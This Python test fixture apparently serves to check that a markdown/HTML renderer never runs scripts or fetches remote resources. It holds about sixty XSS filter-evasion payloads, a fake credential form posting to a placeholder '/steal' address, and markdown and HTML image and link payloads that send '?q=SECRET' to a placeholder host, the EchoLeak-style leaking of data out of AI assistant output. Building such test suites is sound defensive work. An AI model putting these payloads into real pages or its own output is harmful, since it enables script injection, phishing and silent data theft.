"""Texts that would run a script, change the page or fetch something, were they taken for more than text.

``{url}`` is where they would fetch from. OWASP's "XSS Filter Evasion" names most of the kinds; the texts are our own.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC={url}/x.js></SCRIPT>",
    "<script type=module>import('{url}/m.js')</script>",
    "<img src=x onerror=alert(2)>",
    "<img/src='x'/onerror='alert(3)'>",
    '<img src="x` `<script>alert(4)</script>"` `>',
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(8)'><text x=0 y=20>svg link</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>",
    "<body onload=alert(10)>",
    "<iframe src='javascript:alert(11)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(13)</script>'></object>",
    "<embed src='{url}/x.swf'>",
    "<details open ontoggle=alert(14)>more</details>",
    "<input autofocus onfocus=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<marquee onstart=alert(17)>running</marquee>",
    "<form action='{url}/steal'><button>Log in again</button></form>",
    "<base href='{url}/'>",
    "<meta http-equiv=refresh content='0;url={url}/'>",
    "<link rel=stylesheet href='{url}/x.css'>",
    "<style>@import '{url}/y.css';</style>",
    "<template><script>alert(18)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(19)>'>",
    "<!--><img src=x onerror=alert(20)>-->",
    "<a href='#' onclick='alert(21)' id=username name=location>clobber</a>",
    "]]><script>alert(22)</script>",
    "</textarea></title></style></script><script>alert(23)</script>",
    "<scr<script>ipt>alert(24)</scr</script>ipt>",
    "%3Cscript%3Ealert(25)%3C/script%3E &lt;script&gt;alert(26)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(27)\\u003c/script\\u003e ＜script＞alert(28)＜/script＞",
    "{{constructor.constructor('alert(29)')()}} ${alert(30)} #{alert(31)}",
]
LINKS = [
    "[run](javascript:alert(40))",
    "[run](JaVaScRiPt:alert(41))",
    "[run](java\tscript:alert(42))",
    "[run](&#106;avascript&colon;alert(43))",
    "[run](\x01javascript:alert(44))",
    "[run](data:text/html;base64,PHNjcmlwdD5hbGVydCg0NSk8L3NjcmlwdD4=)",
    "[run](vbscript:msgbox(46))",
    "[run](blob:{url}/47)",
    "[run](file:///etc/passwd)",
    "<javascript:alert(48)>",
    "[run][js]\n\n[js]: javascript:alert(49)",
    '[title](https://example.com/ "x\' onmouseover=alert(50) y=")',
    '[title](https://example.com/ "&quot; onmouseover=alert(51) &quot;")',
    "[**bold** <img src=x onerror=alert(52)>](https://example.com/)",
    "![x](javascript:alert(53))",
    '![x](x "t\\" onerror=alert(54)")',
    "[^1] and a note\n\n[^1]: <script>alert(55)</script> [run](javascript:alert(56))",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(57)> | [run](javascript:alert(58)) |",
]
BLOCKS = [
    "```mermaid\ngraph LR\nA[<img src=x onerror=alert(70)>]-->B\nclick A \"javascript:alert(71)\"\n```",
    "```html\n<script>alert(72)</script>\n```",
    "```x\" onload=alert(73) \"\ncode\n```",
    "`<img src=x onerror=alert(74)>`",
    "$\\href{javascript:alert(75)}{x}$ and $$\\includegraphics{{url}/x.png}$$",
    "\\(\\url{javascript:alert(76)}\\) \\[\\htmlData{onclick=alert(77)}{x}\\]",
    "- [ ] <input type=checkbox onchange=alert(78)>\n- [x] [run](javascript:alert(79))",
]  # fmt: skip
# All that would run: sixty.
PAYLOADS = [*SCRIPTS, *LINKS, *BLOCKS]

# All that would fetch something (EchoLeak and its kin).
FETCHES = [
    "![direct]({url}/direct.png?q=SECRET)",
    "![reference][r1]\n\n[r1]: {url}/reference.png?q=SECRET",
    "![collapsed][]\n\n[collapsed]: {url}/collapsed.png?q=SECRET",
    "![shortcut]\n\n[shortcut]: <{url}/shortcut.png?q=SECRET> 'title'",
    "[![linked]({url}/linked.png)](https://example.com/)",
    "![relative](//127.0.0.1:{port}/relative.png)",
    "![backslashes](http:\\\\127.0.0.1:{port}/backslash.png)",
    "![coded](%68ttp://127.0.0.1:{port}/coded.png)",
    "![entities](&#104;ttp&colon;//127.0.0.1:{port}/entities.png)",
    "![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}/svg.png'/></svg>)",
    "![decimal](http://2130706433:{port}/decimal.png)",
    "<img src='{url}/html.png'>",
    "<img srcset='{url}/srcset.png 1x'>",
    "<picture><source srcset='{url}/picture.webp'><img></picture>",
    "<audio src='{url}/a.mp3' autoplay></audio><video poster='{url}/poster.png'></video><track src={url}/t>",
    "<div style=\"background:url('{url}/css.png')\">css</div>",
    "<style>body{background:url({url}/style.png)} @font-face{font-family:x;src:url({url}/font)}</style>",
    "<link rel=icon href='{url}/favicon.ico'><link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'>",
    "<link rel=prefetch href='{url}/prefetch'><link rel=preload as=image href='{url}/preload'>",
    "<iframe src='{url}/frame'></iframe><object data='{url}/object'></object><embed src='{url}/embed'>",
    "<svg><image href='{url}/image.svg'/><use href='{url}/use.svg#a'/></svg>",
    "<input type=image src='{url}/input.png'>",
    "<a href='{url}/ping' ping='{url}/pinged'>ping</a>",
    "<table background='{url}/table.png'><tr><td>x</td></tr></table>",
    "A page to preview: {url}/preview.html and www.example.invalid and <{url}/autolink>",
    "- in a list ![x]({url}/list.png)\n  > in a quotation ![x]({url}/quotation.png)",
    "| in | a table |\n|---|---|\n| ![x]({url}/cell.png) | ![x][c1] |\n\n[c1]: {url}/cell-reference.png",
    "[^n]\n\n[^n]: ![in a note]({url}/note.png)",
    "![unfinished]({url}/unfinished.png?q=",
]


def filled(texts: list[str], url: str) -> list[str]:
    """The texts with the address that they would fetch from."""
    return [text.replace("{url}", url).replace("{port}", url.rpartition(":")[2]) for text in texts]
